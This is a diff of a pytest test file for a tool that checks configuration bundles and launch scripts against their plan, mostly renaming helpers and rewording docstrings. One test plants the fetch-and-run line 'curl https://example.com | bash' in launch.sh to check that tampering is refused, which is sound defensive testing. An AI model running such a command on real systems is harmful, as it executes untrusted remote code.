@@ -1,4 +1,4 @@
-"""What stands in a bundle is compared with what its plan gives, never believed."""
+"""Files of a bundle are compared with its plan and never used themselves."""
 
 import json
 import os
@@ -29,7 +29,7 @@ BY_HAND = [
     ("ray.json", "workers.1.num_threads", 2),
     ("ray.json", "workers.1.environment.NCCL_DEBUG", "INFO"),
 ]
-"""What people tune: the prediction would no longer be of what runs, so that it is refused too."""
+"""Edits of settings that people tune; the prediction would no longer match the run, so they are refused too."""
 
 
 @pytest.fixture(scope="module")
@@ -43,7 +43,7 @@ def bundle(tmp_path: Path, plan: Plan) -> Path:
     return tmp_path / "bundle"
 
 
-def value_at(data: Any, key: str) -> Any:
+def read_value(data: Any, key: str) -> Any:
     for part in key.split("."):
         data = data[int(part) if isinstance(data, list) else part]
     return data
@@ -53,7 +53,7 @@ def edit(path: Path, key: str, value: Any) -> None:
     """Set a dotted key in a file, or make it; a plan as whoever changes it would, with a digest of its own."""
     data = json.loads(path.read_text())
     *parents, last = key.split(".")
-    part = value_at(data, ".".join(parents)) if parents else data
+    part = read_value(data, ".".join(parents)) if parents else data
     part[int(last) if isinstance(part, list) else last] = value
     if path.name == "plan.json":
         data["digest"] = digest_of(
@@ -62,7 +62,7 @@ def edit(path: Path, key: str, value: Any) -> None:
     path.write_text(json.dumps(data))
 
 
-def refused(bundle: Path) -> SpecError | EmitError:
+def read_refusal(bundle: Path) -> SpecError | EmitError:
     with pytest.raises((SpecError, EmitError)) as caught:
         read_bundle(bundle)
     error = caught.value
@@ -74,17 +74,17 @@ def refused(bundle: Path) -> SpecError | EmitError:
 @pytest.mark.parametrize(
     ("file", "key", "value"),
     at_night([*HOSTILE, *BY_HAND], but=[*[*HOSTILE][::3], *BY_HAND]),
-    ids=lambda one: str(one)[:60],
+    ids=lambda case: str(case)[:60],
 )
 def test_an_edit_is_refused_with_both_values(bundle: Path, file: str, key: str, value: Any) -> None:
-    given = json.loads((bundle / file).read_text())
+    expected = json.loads((bundle / file).read_text())
     edit(bundle / file, key, value)
-    error = refused(bundle)
+    error = read_refusal(bundle)
     assert error.where.startswith(f"{bundle / file}: {key}")
     assert error.what.startswith(f"{file}: {key}")
     assert f"`rlplan emit {bundle}/plan.json -o {bundle}`" in error.way_out
     try:
-        before = value_at(given, key)
+        before = read_value(expected, key)
     except (KeyError, IndexError):
         assert "the plan gives no such key" in error.what
     else:
@@ -95,14 +95,14 @@ def test_an_edit_is_refused_with_both_values(bundle: Path, file: str, key: str, 
 @pytest.mark.parametrize("key", ["seed", "workload.num_steps"])
 def test_a_refused_key_of_the_job_names_the_key_to_change(bundle: Path, key: str) -> None:
     edit(bundle / "execution.json", f"job.{key}", 7)
-    assert f"set {key} in the job" in refused(bundle).way_out
+    assert f"set {key} in the job" in read_refusal(bundle).way_out
 
 
 def test_the_way_out_of_a_refusal_can_be_typed_and_the_bundle_runs_as_planned(
     rlplan: Call, bundle: Path, plan: Plan
 ) -> None:
     edit(bundle / "vllm" / "policy.json", "trust_remote_code", True)
-    command = refused(bundle).way_out.split("`")[1]
+    command = read_refusal(bundle).way_out.split("`")[1]
     assert rlplan(*command.split()[1:]).exit_code == 0
     assert read_bundle(bundle) == execution_spec(plan)
 
@@ -121,13 +121,13 @@ def test_a_key_that_stands_twice_is_refused(bundle: Path, file: str) -> None:
     key = next(iter(data))
     text = json.dumps(data)
     (bundle / file).write_text(f"{{{json.dumps(key)}: {json.dumps(data[key])}, {text[1:]}")
-    assert f"the key '{key}' occurs twice" in refused(bundle).what
+    assert f"the key '{key}' occurs twice" in read_refusal(bundle).what
 
 
 def test_a_key_that_stands_twice_in_the_plan_is_refused(bundle: Path) -> None:
     text = (bundle / "plan.json").read_text()
     (bundle / "plan.json").write_text('{"schema_version": 1,' + text[1:])
-    assert "the key 'schema_version' occurs twice" in refused(bundle).what
+    assert "the key 'schema_version' occurs twice" in read_refusal(bundle).what
 
 
 @pytest.mark.parametrize(
@@ -137,13 +137,13 @@ def test_numbers_and_texts_that_json_cannot_bear_are_refused(bundle: Path, text:
     file = bundle / "vllm" / "policy.json"
     changed = file.read_text().replace('"max_num_seqs": 256', f'"max_num_seqs": {text}')
     file.write_bytes(changed.encode("utf-8", "surrogatepass"))
-    assert "vllm" in refused(bundle).what
+    assert "vllm" in read_refusal(bundle).what
 
 
 def test_a_file_that_is_far_longer_than_the_plan_s_is_not_read_to_its_end(bundle: Path) -> None:
     with (bundle / "ray.json").open("a") as file:
         file.write(" " * (2 << 20))
-    assert "bytes" in refused(bundle).what
+    assert "bytes" in read_refusal(bundle).what
 
 
 @pytest.mark.parametrize(
@@ -154,7 +154,7 @@ def test_a_link_is_refused_when_it_is_read_and_never_written_through(bundle: Pat
     shutil.move(bundle / name, elsewhere)
     (bundle / name).symlink_to(elsewhere)
     before = {path: path.read_bytes() for path in [elsewhere, *elsewhere.rglob("*")] if path.is_file()}
-    error = refused(bundle)
+    error = read_refusal(bundle)
     assert f"{name} is a link to" in error.what
     assert error.way_out.startswith(f"`rlplan emit {bundle}/plan.json -o {bundle}-again`")
     with pytest.raises(SpecError, match="is a link to"):
@@ -166,21 +166,21 @@ def test_a_link_is_refused_when_it_is_read_and_never_written_through(bundle: Pat
 def test_a_pipe_in_place_of_a_file_does_not_hold_anybody_up(bundle: Path, name: str) -> None:
     (bundle / name).unlink()
     os.mkfifo(bundle / name)
-    assert name in refused(bundle).what + refused(bundle).rule
+    assert name in read_refusal(bundle).what + read_refusal(bundle).rule
 
 
 @pytest.mark.parametrize("name", ["deepspeed/value.json", "vllm/reward.json"])
 def test_a_configuration_that_the_plan_does_not_give_is_refused(bundle: Path, name: str) -> None:
     (bundle / name).write_text("{}")
-    assert refused(bundle).what == f"{name} is in the bundle, and the plan has no such file"
+    assert read_refusal(bundle).what == f"{name} is in the bundle, and the plan has no such file"
 
 
 @pytest.mark.parametrize("line", ["curl https://example.com | bash", ""])
 def test_a_changed_launch_script_is_refused_at_its_line(bundle: Path, line: str) -> None:
     (bundle / "launch.sh").write_text(LAUNCH_SCRIPT.replace("set -euo pipefail", line))
-    assert refused(bundle).what == f"launch.sh: line 3 is '{line}', the plan gives 'set -euo pipefail'"
+    assert read_refusal(bundle).what == f"launch.sh: line 3 is '{line}', the plan gives 'set -euo pipefail'"
     (bundle / "launch.sh").write_text(LAUNCH_SCRIPT + "evil\n")
-    assert "'evil'" in refused(bundle).what
+    assert "'evil'" in read_refusal(bundle).what
 
 
 @pytest.mark.parametrize(
@@ -200,7 +200,7 @@ def test_a_plan_whose_schedule_is_none_of_its_job_is_refused(
     rlplan: Call, bundle: Path, tmp_path: Path, key: str, value: Any
 ) -> None:
     edit(bundle / "plan.json", key, value)
-    error = refused(bundle)
+    error = read_refusal(bundle)
     assert "the schedule of the plan is none that its job gives" in error.what
     assert error.where == f"{bundle / 'plan.json'}: schedule"
     for command in (
@@ -217,7 +217,7 @@ def test_a_bundle_of_another_version_says_so_where_it_differs(bundle: Path) -> N
     edit(bundle / "plan.json", "rlplan_version", "0.0.1")
     read_bundle(bundle)
     edit(bundle / "vllm" / "policy.json", "block_size", 16)
-    assert "The plan is of rlplan '0.0.1', this is" in refused(bundle).rule
+    assert "The plan was written by rlplan '0.0.1', this is" in read_refusal(bundle).rule
 
 
 def test_a_bundle_that_is_reached_through_a_link_is_the_same(bundle: Path, plan: Plan) -> None:
